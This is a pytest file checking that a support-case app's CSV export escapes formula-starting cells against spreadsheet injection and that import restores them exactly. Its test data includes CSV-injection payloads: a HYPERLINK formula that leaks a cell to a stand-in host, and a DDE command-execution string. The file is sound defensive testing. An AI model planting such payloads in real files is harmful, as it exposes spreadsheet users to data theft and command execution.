"""The CSV export is safe to open in a spreadsheet (OWASP CSV injection: no cell starts
a formula), the import reverses exactly that escaping (any text survives export → import
unchanged), and a malformed CSV gets a 422 that names the line, never a 500."""

from __future__ import annotations

import csv
import io
import tempfile
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from seller_support.store import SqliteCaseStore
from seller_support.web import create_app
from seller_support.web.case_csv import escape_cell, unescape_cell
from seller_support.web.extensions import STORE_KEY

from ..conftest import call_json

APP = create_app({"TESTING": True, "CASES_DB": tempfile.mkdtemp() + "/csv.sqlite3"})
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER = "text,category,marketplace,filed_at"
FILED = "2026-07-01T10:00:00+00:00"
ISSUE_TEXTS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # really starts with the escape
    "''",
    "'",
    "'plain",
    "=",
]
# Texts of every kind, and above all ones that start like a formula or with a `'`.
TEXTS = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["", *FORMULA_STARTS, "'", "''", "'=", "' ", "\n", '"', ","]),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
)
FUZZ = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


def fresh_store() -> None:
    APP.extensions[STORE_KEY] = SqliteCaseStore(Path(tempfile.mkdtemp()) / "cases.sqlite3")


def add_case(text: str, filed_at: str = FILED) -> dict:
    body = {"text": text, "category": "other", "marketplace": "US", "filed_at": filed_at}
    response = APP.test_client().post("/api/v1/cases", json=body)
    assert response.status_code == 201, response.json
    return response.json


def export_csv() -> str:
    response = APP.test_client().get("/api/v1/cases/export?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return response.data.decode("utf-8")


def import_csv(text: str):
    return APP.test_client().post("/api/v1/cases/import", json={"csv": text})


def cells(csv_text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(csv_text.removeprefix("\ufeff"), newline="")))
    return [cell for row in rows[1:] for cell in row]


@given(text=st.text(alphabet=st.characters(codec="utf-8"), max_size=30))
@FUZZ
def test_escaping_is_safe_and_exactly_reversible(text):
    written = escape_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert unescape_cell(written) == text


def test_cells_that_do_not_need_it_are_left_alone():
    for value in ["账号被封", "a=b", "1-2", "2026-07-01T10:00:00+00:00", " =1", ""]:
        assert escape_cell(value) == value
        assert unescape_cell(value) == value
    assert escape_cell(None) is None and escape_cell(7) == 7
    # A `'` of a hand-made CSV stays; one the export wrote goes.
    assert unescape_cell("'plain") == "'plain"
    assert escape_cell("'plain") == "''plain" and unescape_cell("''plain") == "'plain"


def test_the_issues_formulas_are_escaped_and_come_back_unchanged():
    fresh_store()
    for i, text in enumerate(ISSUE_TEXTS):
        add_case(text, filed_at=f"2026-07-01T10:{i:02d}:00+00:00")
    exported = export_csv()
    for cell in cells(exported):
        assert not cell.startswith(FORMULA_STARTS), cell
    assert "'=HYPERLINK(\"http://x.example/" in next(c for c in cells(exported) if "HYPERLINK" in c)
    fresh_store()
    response = import_csv(exported)
    assert response.status_code == 200, response.json
    assert sorted(c["text"] for c in response.json["cases"]) == sorted(ISSUE_TEXTS)


@given(texts=st.lists(TEXTS, min_size=1, max_size=4, unique=True))
@FUZZ
def test_any_text_survives_csv_export_and_import(texts):
    fresh_store()
    texts = [t for t in texts if t]
    if not texts:
        return
    originals = [
        add_case(t, filed_at=f"2026-07-01T10:{i:02d}:00+00:00") for i, t in enumerate(texts)
    ]
    exported = export_csv()
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells(exported))
    fresh_store()
    response = import_csv(exported)
    assert response.status_code == 200, response.json
    restored = sorted(response.json["cases"], key=lambda c: c["filed_at"])
    assert [c["text"] for c in restored] == [c["text"] for c in originals]


@pytest.mark.parametrize("line_end", ["\r\n", "\n", "\r"])
def test_any_line_ends_are_read(line_end):
    fresh_store()
    rows = [HEADER, f"first,other,US,{FILED}", f'"two{line_end}lines",other,US,{FILED}']
    response = import_csv(line_end.join(rows) + line_end)
    assert response.status_code == 200, response.json
    assert sorted(c["text"] for c in response.json["cases"]) == ["first", f"two{line_end}lines"]


@pytest.mark.parametrize(
    ("body", "line", "fragment"),
    [
        (f'{HEADER}\r\nok,other,US,{FILED}\r\n"unterminated,other,US,{FILED}\r\n', 3, "CSV"),
        (f'{HEADER}\r\nok,other,US,{FILED}\r\n"x"y,other,US,{FILED}\r\n', 3, "CSV"),
        (f"{HEADER}\rok,other,US,{FILED}\rtoo,many,US,{FILED},x\r", 3, "5 fields"),
        (f"{HEADER}\nok,other,US,{FILED}\nshort,other\n", 3, "2 fields"),
        (f"{HEADER},colour\nok,other,US,{FILED},red\n", 1, "unknown columns ['colour']"),
        (f"{HEADER},text\nok,other,US,{FILED},x\n", 1, "named twice"),
        ("text,category\nok,other\n", 1, "lacks"),
        (f'{HEADER}\n\n\nok,other,US,{FILED}\n"{"x" * 140_000}",other,US,{FILED}\n', 5, "CSV"),
        (f"{HEADER}\r\nok,other,US,{FILED}\r\nbad,other,US,not-a-date\r\n", 3, "filed_at"),
        ("", 1, "header"),
    ],
)
def test_bad_csv_gets_422_naming_the_line(body, line, fragment):
    fresh_store()
    response = import_csv(body)
    assert response.status_code == 422, response.json
    assert response.json["code"] == "invalid_input"
    assert f"csv line {line}:" in response.json["message"], response.json["message"]
    assert fragment in response.json["message"]
    assert APP.test_client().get("/api/v1/cases/export").json["cases"] == []  # all or none


def test_the_real_server_escapes_formulas_and_reads_bad_csv_as_422(live_backend):
    status, _ = call_json(
        live_backend,
        "POST",
        "/api/v1/cases",
        {"text": "=1+1 csv test", "category": "other", "marketplace": "US"},
    )
    assert status == 201
    with urllib.request.urlopen(f"{live_backend}/api/v1/cases/export?format=csv") as response:
        exported = response.read().decode("utf-8")
    assert "'=1+1 csv test" in exported
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells(exported))
    status, answer = call_json(
        live_backend, "POST", "/api/v1/cases/import", {"csv": f'{HEADER}\r"open,other,US,{FILED}\r'}
    )
    assert status == 422 and "csv line 2:" in answer["message"]
